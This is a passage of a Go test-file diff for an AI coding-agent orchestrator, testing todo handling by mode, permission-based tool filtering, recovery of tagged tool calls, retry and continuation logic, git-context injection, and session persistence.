+		t.Fatalf("getInt: %d", getInt(m, "b", 0))
+	}
+	if getInt(m, "missing", 42) != 42 {
+		t.Fatalf("getInt missing: %d", getInt(m, "missing", 42))
+	}
+	if len(getArray(m, "c")) != 2 {
+		t.Fatalf("getArray: %v", getArray(m, "c"))
+	}
+	if parseJSONObject("") != nil || parseJSONObject("invalid") != nil {
+		t.Fatal("parseJSONObject invalid")
+	}
+}
+
+func TestShortQuoteOrDashFirstLine(t *testing.T) {
+	if short("hello", 3) != "hel..." {
+		t.Fatalf("short: %q", short("hello", 3))
+	}
+	if short("hi", 10) != "hi" {
+		t.Fatalf("short no trunc: %q", short("hi", 10))
+	}
+	if quoteOrDash("") != "-" {
+		t.Fatalf("quoteOrDash empty: %q", quoteOrDash(""))
+	}
+	if firstLine("\n\n  first  \nsecond") != "first" {
+		t.Fatalf("firstLine: %q", firstLine("\n\n  first  \nsecond"))
+	}
+}
+
+func TestRunTurnPlanDoesNotAutoInitializeTodos(t *testing.T) {
+	registry := tools.NewRegistry(
+		mockTool{name: "todoread", result: `{"ok":true,"count":0,"items":[]}`},
+		mockTool{name: "todowrite", result: `{"ok":true,"count":1,"items":[{"content":"a","status":"in_progress"}]}`},
+	)
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{Content: "这里是执行计划。"},
+		},
+	}
+	orch := New(prov, registry, Options{MaxSteps: 3, Workflow: config.Default().Workflow})
+	orch.SetMode("plan")
+
+	// 默认配置下复杂任务也不会自动初始化 todo。/ With the default config even a complex task does not auto-initialize todos.
+	got, err := orch.RunTurn(context.Background(), "安装 python，然后重构 parser 模块", nil)
+	if err != nil {
+		t.Fatalf("RunTurn failed: %v", err)
+	}
+	if !strings.Contains(got, "计划") {
+		t.Fatalf("unexpected final output: %q", got)
+	}
+	for _, msg := range orch.messages {
+		if msg.Role == "tool" && msg.Name == "todowrite" {
+			t.Fatalf("unexpected auto todowrite in plan mode: %+v", msg)
+		}
+	}
+}
+
+func TestRunTurnAutoTodoModesEnablesBuildMode(t *testing.T) {
+	const task = "重构 parser 模块，然后补充单元测试"
+	todoAgents := config.AgentConfig{Definitions: []config.AgentDefinition{{Name: "build", Tools: map[string]string{"todowrite": "on"}}}}
+	run := func(modes []string, agents config.AgentConfig, policy *permission.Policy) (*recordingTool, *Orchestrator) {
+		t.Helper()
+		todowrite := &recordingTool{name: "todowrite", result: `{"ok":true,"count":2,"items":[{"content":"重构 parser 模块","status":"in_progress"},{"content":"补充单元测试","status":"pending"}]}`}
+		registry := tools.NewRegistry(
+			mockTool{name: "todoread", result: `{"ok":true,"count":0,"items":[]}`},
+			todowrite,
+		)
+		prov := &scriptedProvider{model: "demo-model", responses: []provider.ChatResponse{{Content: "开始处理。"}}}
+		orch := New(prov, registry, Options{MaxSteps: 3, Agents: agents, Policy: policy, Workflow: config.WorkflowConfig{
+			RequireTodoForComplex: true,
+			AutoTodoModes:         modes,
+		}})
+		if _, err := orch.RunTurn(context.Background(), task, nil); err != nil {
+			t.Fatalf("RunTurn failed: %v", err)
+		}
+		return todowrite, orch
+	}
+
+	if todowrite, _ := run(nil, todoAgents, nil); len(todowrite.args) != 0 {
+		t.Fatalf("default auto_todo_modes should not auto-initialize todos, got %v", todowrite.args)
+	}
+	if todowrite, _ := run([]string{"build"}, config.AgentConfig{}, nil); len(todowrite.args) != 0 {
+		t.Fatalf("the builtin build agent disables todowrite, so auto-initialization must not bypass it, got %v", todowrite.args)
+	}
+	denied := permission.New(config.PermissionConfig{Default: "allow", Tools: map[string]string{"todowrite": "deny"}})
+	if todowrite, _ := run([]string{"build"}, todoAgents, denied); len(todowrite.args) != 0 {
+		t.Fatalf("auto-initialization must go through the permission policy, got %v", todowrite.args)
+	}
+
+	todowrite, orch := run([]string{"plan", "build"}, todoAgents, nil)
+	if len(todowrite.args) != 1 || !strings.Contains(todowrite.args[0], "重构 parser 模块") || !strings.Contains(todowrite.args[0], "补充单元测试") {
+		t.Fatalf("build in auto_todo_modes should auto-initialize todos from the task, got %v", todowrite.args)
+	}
+	recorded := false
+	for _, msg := range orch.messages {
+		if msg.Role == "tool" && msg.Name == "todowrite" && msg.ToolCallID == autoTodoCallID {
+			recorded = true
+		}
+	}
+	if !recorded {
+		t.Fatal("auto todowrite should be recorded in the session")
+	}
+}
+
+func TestRunTurnPlanAllowsDirectTodoWriteWhenModelCallsIt(t *testing.T) {
+	registry := tools.NewRegistry(
+		mockTool{name: "todowrite", result: `{"ok":true,"count":1,"items":[{"content":"explicit todo","status":"in_progress"}]}`},
+	)
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{
+				ToolCalls: []chat.ToolCall{
+					{
+						ID:   "call_todo_first",
+						Type: "function",
+						Function: chat.ToolCallFunction{
+							Name:      "todowrite",
+							Arguments: `{"todos":[{"content":"explicit todo","status":"in_progress","priority":"high"}]}`,
+						},
+					},
+				},
+			},
+			{Content: "todo 已更新。"},
+		},
+	}
+	orch := New(prov, registry, Options{MaxSteps: 4})
+	orch.SetMode("plan")
+
+	got, err := orch.RunTurn(context.Background(), "请先记一个todo", nil)
+	if err != nil {
+		t.Fatalf("RunTurn failed: %v", err)
+	}
+	if !strings.Contains(got, "todo") {
+		t.Fatalf("unexpected final output: %q", got)
+	}
+
+	seenToolResult := false
+	for _, msg := range orch.messages {
+		if msg.Role != "tool" || msg.Name != "todowrite" {
+			continue
+		}
+		if strings.Contains(msg.Content, `"denied":true`) {
+			t.Fatalf("todowrite should not be blocked by orchestrator in plan mode: %q", msg.Content)
+		}
+		if strings.Contains(msg.Content, `"ok":true`) {
+			seenToolResult = true
+		}
+	}
+	if !seenToolResult {
+		t.Fatal("expected todowrite tool result")
+	}
+}
+
+func TestRunTurnFiltersPolicyDeniedToolsFromDefinitions(t *testing.T) {
+	registry := tools.NewRegistry(
+		mockTool{name: "read", result: `{"ok":true}`},
+		mockTool{name: "write", result: `{"ok":true}`},
+		mockTool{name: "edit", result: `{"ok":true}`},
+		mockTool{name: "patch", result: `{"ok":true}`},
+		mockTool{name: "task", result: `{"ok":true}`},
+		mockTool{name: "bash", result: `{"ok":true}`},
+	)
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{Content: "analysis only"},
+		},
+	}
+	orch := New(prov, registry, Options{MaxSteps: 2})
+	orch.policy = permission.New(config.PermissionConfig{
+		Default: "ask", Read: "allow", Edit: "deny", Write: "deny", Patch: "deny", Task: "deny",
+		Bash: map[string]string{"*": "ask"},
+	})
+
+	if _, err := orch.RunTurn(context.Background(), "analyze code structure", nil); err != nil {
+		t.Fatalf("RunTurn failed: %v", err)
+	}
+	if len(prov.requests) == 0 {
+		t.Fatal("expected provider to receive at least one request")
+	}
+	seen := map[string]bool{}
+	for _, def := range prov.requests[0].Tools {
+		seen[def.Function.Name] = true
+	}
+	if !seen["read"] {
+		t.Fatalf("expected read tool definition, got %+v", seen)
+	}
+	if !seen["bash"] {
+		t.Fatalf("expected bash tool definition, got %+v", seen)
+	}
+	for _, denied := range []string{"write", "edit", "patch", "task"} {
+		if seen[denied] {
+			t.Fatalf("expected %s to be filtered out by policy deny", denied)
+		}
+	}
+}
+
+func TestRecoverToolCallsFromContent_TaggedFunction(t *testing.T) {
+	content := "I will run a command.\n<tool_call>\n<function=bash>\n<parameter=command>\nuname\n</parameter>\n</function>\n</tool_call>"
+	defs := []chat.ToolDef{
+		{Type: "function", Function: chat.ToolFunction{Name: "bash", Parameters: map[string]any{"type": "object"}}},
+	}
+	calls, cleaned := recoverToolCallsFromContent(content, defs)
+	if len(calls) != 1 {
+		t.Fatalf("recovered calls=%d, want 1", len(calls))
+	}
+	if calls[0].Function.Name != "bash" {
+		t.Fatalf("unexpected tool name: %+v", calls[0])
+	}
+	if calls[0].Function.Arguments != `{"command":"uname"}` {
+		t.Fatalf("unexpected args: %s", calls[0].Function.Arguments)
+	}
+	if strings.Contains(cleaned, "<tool_call>") {
+		t.Fatalf("expected cleaned content without tool_call block, got %q", cleaned)
+	}
+}
+
+func TestRecoverToolCallsFromContent_BareTaggedFunction(t *testing.T) {
+	content := "I'll help you install Python.\n<function=bash>\n<parameter=command>\nuname -s\n</parameter>\n</function>\n</tool_call>"
+	defs := []chat.ToolDef{
+		{Type: "function", Function: chat.ToolFunction{Name: "bash", Parameters: map[string]any{"type": "object"}}},
+	}
+	calls, cleaned := recoverToolCallsFromContent(content, defs)
+	if len(calls) != 1 {
+		t.Fatalf("recovered calls=%d, want 1", len(calls))
+	}
+	if calls[0].Function.Name != "bash" {
+		t.Fatalf("unexpected tool name: %+v", calls[0])
+	}
+	if calls[0].Function.Arguments != `{"command":"uname -s"}` {
+		t.Fatalf("unexpected args: %s", calls[0].Function.Arguments)
+	}
+	if strings.Contains(cleaned, "<function=bash>") {
+		t.Fatalf("expected cleaned content without function block, got %q", cleaned)
+	}
+}
+
+func TestRecoverToolCallsFromContent_JSONStyle(t *testing.T) {
+	content := "<tool_call>{\"name\":\"bash\",\"arguments\":{\"command\":\"uname -a\"}}</tool_call>"
+	defs := []chat.ToolDef{
+		{Type: "function", Function: chat.ToolFunction{Name: "bash", Parameters: map[string]any{"type": "object"}}},
+	}
+	calls, cleaned := recoverToolCallsFromContent(content, defs)
+	if len(calls) != 1 {
+		t.Fatalf("recovered calls=%d, want 1", len(calls))
+	}
+	if calls[0].Function.Name != "bash" {
+		t.Fatalf("unexpected tool name: %+v", calls[0])
+	}
+	if calls[0].Function.Arguments != `{"command":"uname -a"}` {
+		t.Fatalf("unexpected args: %s", calls[0].Function.Arguments)
+	}
+	if cleaned != "" {
+		t.Fatalf("expected empty cleaned content, got %q", cleaned)
+	}
+}
+
+func TestChatWithRetryRecoversTaggedToolCalls(t *testing.T) {
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{
+				Content: "<tool_call><function=bash><parameter=command>uname</parameter></function></tool_call>",
+			},
+		},
+	}
+	orch := New(prov, tools.NewRegistry(), Options{})
+	defs := []chat.ToolDef{
+		{Type: "function", Function: chat.ToolFunction{Name: "bash", Parameters: map[string]any{"type": "object"}}},
+	}
+	resp, err := orch.chatWithRetry(context.Background(), nil, defs, nil, nil)
+	if err != nil {
+		t.Fatalf("chatWithRetry failed: %v", err)
+	}
+	if len(resp.ToolCalls) != 1 {
+		t.Fatalf("expected recovered tool call, got %d", len(resp.ToolCalls))
+	}
+	if resp.ToolCalls[0].Function.Name != "bash" {
+		t.Fatalf("unexpected tool call: %+v", resp.ToolCalls[0])
+	}
+}
+
+func TestRunTurnEndsOnEmptyModelResponse(t *testing.T) {
+	prov := &scriptedProvider{
+		model:     "demo-model",
+		responses: []provider.ChatResponse{{}, {}, {Content: "should not be reached"}},
+	}
+	orch := New(prov, tools.NewRegistry(), Options{MaxSteps: 8})
+
+	got, err := orch.RunTurn(context.Background(), "explain the repo", nil)
+	if err != nil {
+		t.Fatalf("RunTurn should not fail on empty response, got: %v", err)
+	}
+	if !strings.Contains(got, "empty response") {
+		t.Fatalf("expected informative empty response message, got: %q", got)
+	}
+	if prov.callCount != 2 {
+		t.Fatalf("expected one retry (2 provider calls), got %d", prov.callCount)
+	}
+	last := orch.messages[len(orch.messages)-1]
+	if last.Role != "assistant" || last.Content != got {
+		t.Fatalf("expected message appended to history, got %+v", last)
+	}
+}
+
+func TestRunTurnContinuesLengthTruncatedAnswer(t *testing.T) {
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{Content: "The quick brown fox ", FinishReason: "length"},
+			{Content: "jumps over the lazy dog.", FinishReason: "stop"},
+		},
+	}
+	orch := New(prov, tools.NewRegistry(), Options{MaxSteps: 8})
+
+	got, err := orch.RunTurn(context.Background(), "explain the repo", nil)
+	if err != nil {
+		t.Fatalf("RunTurn failed: %v", err)
+	}
+	if got != "The quick brown fox jumps over the lazy dog." {
+		t.Fatalf("expected stitched answer, got %q", got)
+	}
+	if prov.callCount != 2 {
+		t.Fatalf("expected 2 provider calls, got %d", prov.callCount)
+	}
+	last := prov.requests[1].Messages[len(prov.requests[1].Messages)-1]
+	if last.Role != "user" || last.Content != lengthContinuationPrompt {
+		t.Fatalf("expected continuation prompt in second request, got %+v", last)
+	}
+}
+
+func TestRunTurnStopsContinuingAtLimit(t *testing.T) {
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{Content: "a", FinishReason: "length"},
+			{Content: "b", FinishReason: "length"},
+			{Content: "c", FinishReason: "length"},
+		},
+	}
+	orch := New(prov, tools.NewRegistry(), Options{MaxSteps: 8, MaxLengthContinuations: 1})
+
+	got, err := orch.RunTurn(context.Background(), "explain the repo", nil)
+	if err != nil {
+		t.Fatalf("RunTurn failed: %v", err)
+	}
+	if got != "ab" || prov.callCount != 2 {
+		t.Fatalf("expected one continuation, got %q after %d calls", got, prov.callCount)
+	}
+}
+
+func TestRunTurnInjectsPromptPrefixAndSuffixForProviderOnly(t *testing.T) {
+	prov := &scriptedProvider{
+		model:     "demo-model",
+		responses: []provider.ChatResponse{{Content: "done"}},
+	}
+	orch := New(prov, tools.NewRegistry(), Options{
+		MaxSteps:         8,
+		UserPromptPrefix: "House rules apply.",
+		UserPromptSuffix: "Always write tests.",
+	})
+
+	if _, err := orch.RunTurn(context.Background(), "add a parser", nil); err != nil {
+		t.Fatalf("RunTurn failed: %v", err)
+	}
+	sent := prov.requests[0].Messages
+	last := sent[len(sent)-1]
+	want := "House rules apply.\n\nadd a parser\n\nAlways write tests."
+	if last.Role != "user" || last.Content != want {
+		t.Fatalf("provider user content=%q, want %q", last.Content, want)
+	}
+	msgs := orch.Messages()
+	if msgs[0].Role != "user" || msgs[0].Content != "add a parser" {
+		t.Fatalf("stored user message should stay raw, got %+v", msgs[0])
+	}
+}
+
+func TestRunTurnInjectsTransientGitContext(t *testing.T) {
+	root := t.TempDir()
+	if err := exec.Command("git", "-C", root, "init").Run(); err != nil {
+		t.Skip("git not available")
+	}
+	exec.Command("git", "-C", root, "symbolic-ref", "HEAD", "refs/heads/main").Run()
+	if err := os.WriteFile(filepath.Join(root, "notes.txt"), []byte("todo\n"), 0o644); err != nil {
+		t.Fatalf("write file: %v", err)
+	}
+	ws, err := security.NewWorkspace(root)
+	if err != nil {
+		t.Fatalf("workspace: %v", err)
+	}
+	gitManager := tools.NewGitManager(ws)
+	prov := &scriptedProvider{model: "demo-model", responses: []provider.ChatResponse{{Content: "ok"}, {Content: "ok"}}}
+	orch := New(prov, tools.NewRegistry(), Options{
+		WorkspaceRoot: root,
+		GitContext: func(ctx context.Context) string {
+			summary, _ := gitManager.StatusSummary(ctx)
+			return summary
+		},
+	})
+
+	if _, err := orch.RunTurn(context.Background(), "what changed?", nil); err != nil {
+		t.Fatalf("RunTurn failed: %v", err)
+	}
+	found := ""
+	for _, msg := range prov.requests[0].Messages {
+		if msg.Role == "system" && strings.HasPrefix(msg.Content, "[GIT_CONTEXT]") {
+			found = msg.Content
+		}
+	}
+	if !strings.Contains(found, "current branch: main") || !strings.Contains(found, "1 untracked file: notes.txt") {
+		t.Fatalf("provider messages missing git summary, got %q", found)
+	}
+	for _, msg := range orch.Messages() {
+		if strings.Contains(msg.Content, "[GIT_CONTEXT]") {
+			t.Fatalf("git context must not be persisted: %+v", msg)
+		}
+	}
+
+	orch.SetMode("plan")
+	if _, err := orch.RunTurn(context.Background(), "plan next steps", nil); err != nil {
+		t.Fatalf("RunTurn in plan mode failed: %v", err)
+	}
+	for _, msg := range prov.requests[1].Messages {
+		if strings.HasPrefix(msg.Content, "[GIT_CONTEXT]") {
+			t.Fatal("git context should only be injected in build mode")
+		}
+	}
+}
+
+func TestChatWithRetryRetriesEmptyResponseOnce(t *testing.T) {
+	prov := &scriptedProvider{
+		model:     "demo-model",
+		responses: []provider.ChatResponse{{}, {Content: "hello"}},
+	}
+	orch := New(prov, tools.NewRegistry(), Options{})
+	resp, err := orch.chatWithRetry(context.Background(), nil, nil, nil, nil)
+	if err != nil {
+		t.Fatalf("chatWithRetry failed: %v", err)
+	}
+	if resp.Content != "hello" || prov.callCount != 2 {
+		t.Fatalf("expected retry to return second response, got %+v after %d calls", resp, prov.callCount)
+	}
+}
+
+func TestTodoStatusMarker(t *testing.T) {
+	if todoStatusMarker("completed") != "[x]" {
+		t.Fatalf("completed: %q", todoStatusMarker("completed"))
+	}
+	if todoStatusMarker("in_progress") != "[~]" {
+		t.Fatalf("in_progress: %q", todoStatusMarker("in_progress"))
+	}
+	if todoStatusMarker("pending") != "[ ]" {
+		t.Fatalf("pending: %q", todoStatusMarker("pending"))
+	}
+}
+
+func TestContainsHan(t *testing.T) {
+	if !containsHan("中文") {
+		t.Fatal("expected true for 中文")
+	}
+	if containsHan("ascii only") {
+		t.Fatal("expected false for ascii only")
+	}
+}
+
+func TestSessionIDAccessors(t *testing.T) {
+	var sid string
+	orch := New(nil, tools.NewRegistry(), Options{
+		SessionIDRef: &sid,
+	})
+
+	if got := orch.GetCurrentSessionID(); got != "" {
+		t.Fatalf("expected empty session id, got %q", got)
+	}
+
+	orch.SetCurrentSessionID("sess_1")
+	if sid != "sess_1" {
+		t.Fatalf("sessionIDRef not updated, got %q", sid)
+	}
+	if got := orch.GetCurrentSessionID(); got != "sess_1" {
+		t.Fatalf("GetCurrentSessionID=%q", got)
+	}
+
+	// nil ref should be safe no-op
+	orch2 := New(nil, tools.NewRegistry(), Options{})
+	orch2.SetCurrentSessionID("ignored")
+	if got := orch2.GetCurrentSessionID(); got != "" {
+		t.Fatalf("expected empty session id when ref nil, got %q", got)
+	}
+}
+
+func TestModeAccessors(t *testing.T) {
+	orch := New(nil, tools.NewRegistry(), Options{})
+
+	if got := orch.CurrentMode(); got != "build" {
+		t.Fatalf("default mode=%q", got)
+	}
+
+	orch.SetMode("PLAN")
+	if got := orch.CurrentMode(); got != "plan" {
+		t.Fatalf("after SetMode(plan) got %q", got)
+	}
+
+	orch.SetMode("  build ")
+	if got := orch.CurrentMode(); got != "build" {
+		t.Fatalf("after SetMode(build) got %q", got)
+	}
+
+	// invalid mode should be ignored and keep previous value
+	orch.SetMode("invalid-mode")
+	if got := orch.CurrentMode(); got != "build" {
+		t.Fatalf("invalid mode should not change value, got %q", got)
+	}
+}
+
+func TestSlashModeAndPermissionsSync(t *testing.T) {
+	pol := permission.New(config.PermissionConfig{
+		Default: "ask",
+		Bash:    map[string]string{"*": "ask"},
+	})
+	orch := New(nil, tools.NewRegistry(), Options{
+		Policy: pol,
+	})
+
+	got, err := orch.RunInput(context.Background(), "/mode plan", nil)
+	if err != nil {
+		t.Fatalf("mode plan failed: %v", err)
+	}
+	if !strings.Contains(got, "Mode set to plan") {
+		t.Fatalf("unexpected /mode output: %q", got)
+	}
+	if orch.ActiveAgent().Name != "plan" {
+		t.Fatalf("active agent=%q, want plan", orch.ActiveAgent().Name)
+	}
+	if decision := orch.policy.Decide("bash", json.RawMessage(`{"command":"git add ."}`)).Decision; decision != permission.DecisionAsk {
+		t.Fatalf("plan preset should require approval for non-whitelisted bash command, got %s", decision)
+	}
+
+	got, err = orch.RunInput(context.Background(), "/permissions build", nil)
+	if err != nil {
+		t.Fatalf("permissions build failed: %v", err)
+	}
+	if !strings.Contains(got, "Permissions set to preset: build") {
+		t.Fatalf("unexpected /permissions output: %q", got)
+	}
+	if orch.CurrentMode() != "build" {
+		t.Fatalf("mode=%q, want build", orch.CurrentMode())
+	}
+	if orch.ActiveAgent().Name != "build" {
+		t.Fatalf("active agent=%q, want build", orch.ActiveAgent().Name)
+	}
+}
+
+func TestModeControlsTodoWriteAvailability(t *testing.T) {
+	orch := New(nil, tools.NewRegistry(), Options{})
+	if orch.CurrentMode() != "build" {
+		t.Fatalf("mode=%q", orch.CurrentMode())
+	}
+	if orch.isToolAllowed("todowrite") {
+		t.Fatal("build mode should disable todowrite")
+	}
+	orch.SetMode("plan")
+	if !orch.isToolAllowed("todowrite") {
+		t.Fatal("plan mode should allow todowrite")
+	}
+}
+
+func TestPickVerifyCommandRespectsWorkflowOverride(t *testing.T) {
+	orch := New(nil, tools.NewRegistry(), Options{
+		Workflow: config.WorkflowConfig{
+			VerifyCommands: []string{"  npm test  ", ""},
+		},
+	})
+	got := orch.pickVerifyCommand()
+	if got != "npm test" {
+		t.Fatalf("expected workflow override \"npm test\", got %q", got)
+	}
+}
+
+func TestPickVerifyCommandAutoDetectsByFiles(t *testing.T) {
+	// go.mod -> go test ./...
+	goDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(goDir, "go.mod"), []byte("module demo\n"), 0o644); err != nil {
+		t.Fatalf("write go.mod: %v", err)
+	}
+	orchGo := New(nil, tools.NewRegistry(), Options{
+		WorkspaceRoot: goDir,
+	})
+	if got := orchGo.pickVerifyCommand(); got != "go test ./..." {
+		t.Fatalf("expected go test ./..., got %q", got)
+	}
+
+	// pyproject.toml -> pytest
+	pyDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(pyDir, "pyproject.toml"), []byte("[tool.poetry]\n"), 0o644); err != nil {
+		t.Fatalf("write pyproject.toml: %v", err)
+	}
+	orchPy := New(nil, tools.NewRegistry(), Options{
+		WorkspaceRoot: pyDir,
+	})
+	if got := orchPy.pickVerifyCommand(); got != "pytest" {
+		t.Fatalf("expected pytest, got %q", got)
+	}
+
+	// package.json -> npm test -- --watch=false
+	jsDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(jsDir, "package.json"), []byte(`{"name":"demo"}`), 0o644); err != nil {
+		t.Fatalf("write package.json: %v", err)
+	}
+	orchJS := New(nil, tools.NewRegistry(), Options{
+		WorkspaceRoot: jsDir,
+	})
+	if got := orchJS.pickVerifyCommand(); got != "npm test -- --watch=false" {
+		t.Fatalf("expected npm test -- --watch=false, got %q", got)
+	}
+
+	// no known files -> empty
+	emptyDir := t.TempDir()
+	orchEmpty := New(nil, tools.NewRegistry(), Options{
+		WorkspaceRoot: emptyDir,
+	})
+	if got := orchEmpty.pickVerifyCommand(); got != "" {
+		t.Fatalf("expected empty command, got %q", got)
+	}
+}
+
+func TestIsCoderConfigPath(t *testing.T) {
+	tests := []struct {
+		path string
+		want bool
+	}{
+		{path: ".coder/config.json", want: true},
+		{path: "sub/.coder/config.json", want: true},
+		{path: "CODER/config.json", want: false},
+		{path: "", want: false},
+	}
+	for _, tc := range tests {
+		got := isCoderConfigPath(tc.path)
+		if got != tc.want {
+			t.Fatalf("isCoderConfigPath(%q) = %v, want %v", tc.path, got, tc.want)
+		}
+	}
+}
+
+func TestEmitContextUpdateUsesLimitAndTokens(t *testing.T) {
+	orch := New(nil, tools.NewRegistry(), Options{
+		ContextTokenLimit: 1000,
+	})
+	orch.LoadMessages([]chat.Message{
+		{Role: "user", Content: "hello"},
+		{Role: "assistant", Content: "world"},
+	})
+
+	calls := 0
+	var lastTokens, lastLimit int
+	var lastPercent float64
+	orch.SetContextUpdateCallback(func(tokens, limit int, percent float64) {
+		calls++
+		lastTokens, lastLimit, lastPercent = tokens, limit, percent
+	})
+
+	orch.emitContextUpdate()
+
+	if calls != 1 {
+		t.Fatalf("expected 1 context update call, got %d", calls)
+	}
+	if lastLimit != 1000 {
+		t.Fatalf("unexpected limit: %d", lastLimit)
+	}
+	if lastTokens <= 0 {
+		t.Fatalf("expected positive token estimate, got %d", lastTokens)
+	}
+	if lastPercent <= 0 {
+		t.Fatalf("expected positive usage percent, got %f", lastPercent)
+	}
+}
+
+func TestRefreshTodosUsesTodoToolAndCallback(t *testing.T) {
+	registry := tools.NewRegistry(
+		mockTool{name: "todoread", result: `{"ok":true,"count":1,"items":[{"content":"demo","status":"pending"}]}`},
+	)
+	orch := New(nil, registry, Options{})
+
+	var seen []string
+	orch.SetTodoUpdateCallback(func(items []string) {
+		seen = append(seen, items...)
+	})
+
+	orch.refreshTodos(context.Background())
+
+	if len(seen) != 1 {
+		t.Fatalf("expected 1 todo item, got %d", len(seen))
+	}
+	if !strings.Contains(seen[0], "demo") {
+		t.Fatalf("unexpected todo content: %q", seen[0])
+	}
+}
+
+func TestFlushSessionToFileWritesPerSessionJSON(t *testing.T) {
+	tmpDir := t.TempDir()
+	sid := "sess_test"
+	registry := tools.NewRegistry(
+		mockTool{name: "read", result: `{"ok":true}`},
+	)
+	orch := New(nil, registry, Options{
+		WorkspaceRoot: tmpDir,
+		SessionIDRef:  &sid,
+	})
+	orch.assembler = contextmgr.New("SYSTEM_PROMPT", tmpDir, "", nil)
+
+	orch.appendMessage(chat.Message{Role: "user", Content: "hello"})
+	orch.appendMessage(chat.Message{Role: "assistant", Content: "world"})
+	orch.appendMessage(chat.Message{
+		Role: "assistant",
+		ToolCalls: []chat.ToolCall{
+			{
+				ID:   "call_read_1",
+				Type: "function",
+				Function: chat.ToolCallFunction{
+					Name:      "read",
+					Arguments: `{"path":"README.md"}`,
+				},
+			},
+		},
+	})
+	orch.appendMessage(chat.Message{
+		Role:       "tool",
+		Content:    `{"ok":true}`,
+		Name:       "read",
+		ToolCallID: "call_read_1",
+	})
+
+	if err := orch.flushSessionToFile(context.Background()); err != nil {
+		t.Fatalf("flushSessionToFile failed: %v", err)
+	}
 
-		// 不是闲聊 - 包含冒号（通常是任务描述）
-		{"你好: 请帮我做这件事", false},
-		{"task: hello", false},
+	path := filepath.Join(tmpDir, ".coder", "sessions", sid+".json")
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("read session file: %v", err)
+	}
+
+	var sf sessionFile
+	if err := json.Unmarshal(data, &sf); err != nil {
+		t.Fatalf("unmarshal session file: %v", err)
+	}
+
+	if sf.SessionID != sid {
+		t.Fatalf("SessionID=%q, want %q", sf.SessionID, sid)
+	}
+	if len(sf.Tools) == 0 {
+		t.Fatalf("expected non-empty tools slice in session file")
+	}
+	foundRead := false
+	for _, td := range sf.Tools {
+		if td.Function.Name == "read" {
+			if td.Type != "function" {
+				t.Fatalf("tool type=%q, want function", td.Type)
+			}
+			foundRead = true
+		}
+	}
+	if !foundRead {
+		t.Fatalf("expected tool definition for \"read\" in tools list")
+	}
+	if sf.CreatedAt == "" || sf.UpdatedAt == "" {
+		t.Fatalf("expected non-empty timestamps, got created_at=%q updated_at=%q", sf.CreatedAt, sf.UpdatedAt)
+	}
+	if _, err := time.Parse(time.RFC3339, sf.CreatedAt); err != nil {
+		t.Fatalf("created_at not RFC3339: %v", err)
+	}
+	if len(sf.Messages) != 5 {
+		t.Fatalf("expected 5 messages (1 system + 4 runtime), got %d", len(sf.Messages))
+	}
+	if sf.Messages[0].Role != "system" {
+		t.Fatalf("first message role=%q, want system", sf.Messages[0].Role)
+	}
+	for i, m := range sf.Messages {
+		if strings.TrimSpace(m.Timestamp) == "" {
+			t.Fatalf("message %d has empty timestamp", i)
+		}
+	}
+
+	firstCreated := sf.CreatedAt
+
+	// 第二次刷新应保留 created_at，并追加新消息。
+	orch.appendMessage(chat.Message{Role: "user", Content: "follow-up"})
+	time.Sleep(10 * time.Millisecond)
+
+	if err := orch.flushSessionToFile(context.Background()); err != nil {
+		t.Fatalf("second flushSessionToFile failed: %v", err)
+	}
+
+	data2, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("read session file after second flush: %v", err)
+	}
+	var sf2 sessionFile
+	if err := json.Unmarshal(data2, &sf2); err != nil {
+		t.Fatalf("unmarshal session file after second flush: %v", err)
+	}
+	if sf2.CreatedAt != firstCreated {
+		t.Fatalf("CreatedAt changed across flushes: first=%q second=%q", firstCreated, sf2.CreatedAt)
+	}
+	if len(sf2.Messages) != 6 {
+		t.Fatalf("expected 6 messages after second flush, got %d", len(sf2.Messages))
+	}
+}
+
+func TestFlushSessionToFileArchivesMessagesBeyondCap(t *testing.T) {
+	tmpDir := t.TempDir()
+	sid := "sess_cap"
+	orch := New(nil, tools.NewRegistry(), Options{
+		WorkspaceRoot:      tmpDir,
+		SessionIDRef:       &sid,
+		MaxSessionMessages: 3,
+	})
+	orch.assembler = contextmgr.New("SYSTEM_PROMPT", tmpDir, "", nil)
+
+	orch.appendMessage(chat.Message{Role: "assistant", Content: "[COMPACTION_SUMMARY]\nearlier work"})
+	orch.appendMessage(chat.Message{Role: "user", Content: "u1"})
+	orch.appendMessage(chat.Message{Role: "assistant", Content: "a1"})
+	orch.appendMessage(chat.Message{Role: "user", Content: "u2"})
+	orch.appendMessage(chat.Message{Role: "assistant", ToolCalls: []chat.ToolCall{{
+		ID: "call_1", Type: "function", Function: chat.ToolCallFunction{Name: "read", Arguments: `{}`},
+	}}})
+	orch.appendMessage(chat.Message{Role: "tool", Content: `{"ok":true}`, Name: "read", ToolCallID: "call_1"})
+	orch.appendMessage(chat.Message{Role: "user", Content: "u3"})
+	orch.appendMessage(chat.Message{Role: "assistant", Content: "a3"})
+
+	if err := orch.flushSessionToFile(context.Background()); err != nil {
+		t.Fatalf("flushSessionToFile failed: %v", err)
+	}
+
+	// 切分点落在 tool 结果上时向后推进，tool_calls 与结果一起归档。
+	archive, err := os.ReadFile(filepath.Join(tmpDir, ".coder", "sessions", sid+".archive.jsonl"))
+	if err != nil {
+		t.Fatalf("read archive file: %v", err)
+	}
+	archived := strings.Split(strings.TrimSpace(string(archive)), "\n")
+	if len(archived) != 5 {
+		t.Fatalf("archived %d messages, want 5: %q", len(archived), archive)
+	}
+	var first sessionFileMessage
+	if err := json.Unmarshal([]byte(archived[0]), &first); err != nil {
+		t.Fatalf("unmarshal archive line: %v", err)
+	}
+	if first.Content != "u1" {
+		t.Fatalf("first archived content=%q, want u1", first.Content)
+	}
+
+	data, err := os.ReadFile(filepath.Join(tmpDir, ".coder", "sessions", sid+".json"))
+	if err != nil {
+		t.Fatalf("read session file: %v", err)
+	}
+	var sf sessionFile
